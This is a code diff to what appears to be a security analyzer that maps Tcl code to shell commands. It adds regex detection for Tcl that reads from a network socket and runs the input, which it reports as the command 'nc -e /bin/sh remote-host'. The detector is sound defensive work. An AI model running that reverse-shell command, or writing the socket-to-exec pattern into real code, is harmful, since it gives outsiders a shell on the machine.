@@ -392,8 +392,19 @@ TCL_SHELLS = frozenset({"tclsh", "wish", "jimsh"})
 
 
 def tcl_commands(code: str) -> list[str]:
-    """The commands Tcl code runs (``exec``, ``spawn``, ``system``), as shell code."""
-    return [m.group(1) for m in _EXPECT_RUN.finditer(code)]
+    """The commands Tcl code runs (``exec``, ``spawn``, ``system``), as shell code.
+
+    Code that opens a socket and runs what it reads (``[socket HOST PORT]``, ``gets``, ``exec``
+    or ``eval``) hands a shell to the network: it reads as ``nc -e /bin/sh``.
+    """
+    found = [m.group(1) for m in _EXPECT_RUN.finditer(code)]
+    if _TCL_SOCKET.search(code) and _TCL_RUNS_INPUT.search(code):
+        found.append("nc -e /bin/sh remote-host")
+    return found
+
+
+_TCL_SOCKET = re.compile(r"\[\s*socket\s+(?!-server\b)")
+_TCL_RUNS_INPUT = re.compile(r"\bgets\b.*\b(?:exec|eval)\b", re.DOTALL)
 
 
 def tcl_writes(code: str) -> list[str]:
